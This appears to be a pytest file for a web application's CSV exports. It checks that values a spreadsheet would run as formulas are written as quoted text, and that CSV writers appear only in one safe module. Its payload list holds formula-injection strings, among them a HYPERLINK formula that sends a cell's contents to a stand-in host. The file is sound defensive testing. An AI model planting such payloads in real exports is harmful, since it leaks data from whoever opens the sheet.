"""Every CSV Hearth writes is safe to open in a spreadsheet: text that would run as a formula
is written as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from hearth.core.spreadsheets import cell

PAYLOADS = ['=HYPERLINK("http://x.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(payload):
    assert cell(payload) == "'" + payload


def test_numbers_and_plain_text_are_written_as_they_are():
    assert [cell(v) for v in (-3, 2.5, "Night chat", "", None)] == [-3, 2.5, "Night chat", "", None]


def test_no_csv_is_written_around_the_safe_writer():
    """A rule as a test: csv.writer and csv.DictWriter appear only in core.spreadsheets (and in
    the demo's HR file, which is an input for the importer, not an export)."""
    root = Path(__file__).resolve().parents[2]
    allowed = {root / "core" / "spreadsheets.py", root / "demo" / "company.py"}
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path not in allowed
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


def test_the_audit_export_writes_a_formula_as_text(client, company):
    from hearth.people.services import person_deactivate
    from hearth.people.tests.factories import PersonFactory

    person_deactivate(actor=company.admin, person=PersonFactory(display_name="=HYPERLINK(1)"))
    client.force_login(company.admin)
    export = client.get("/moderation/audit/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    labels = [row[5] for row in rows[1:] if row[5]]
    assert labels and all(label.startswith("'=HYPERLINK(1)") for label in labels)


def test_the_jam_report_writes_a_formula_as_text(client, company):
    from hearth.jams.tests.factories import close, make_jam
    from hearth.jams.tests.test_jams import idea

    jam = make_jam(company)
    idea(jam, company.member, "=1+2 more night shifts")
    close(jam)
    client.force_login(company.ceo)
    rows = list(
        csv.reader(io.StringIO(client.get(f"/jams/{jam.slug}/report.csv").content.decode()))
    )
    assert "'=1+2 more night shifts" in [row[1] for row in rows[1:]]


def test_the_value_report_writes_a_formula_as_text(monkeypatch):
    import zipfile

    from hearth.insights import report

    monkeypatch.setattr(report, "tables", lambda data: {"t.csv": [["name"], ["@evil"], [-1]]})
    archive = zipfile.ZipFile(io.BytesIO(report.csv_zip({})))
    assert archive.read("t.csv").decode().splitlines() == ["name", "'@evil", "-1"]
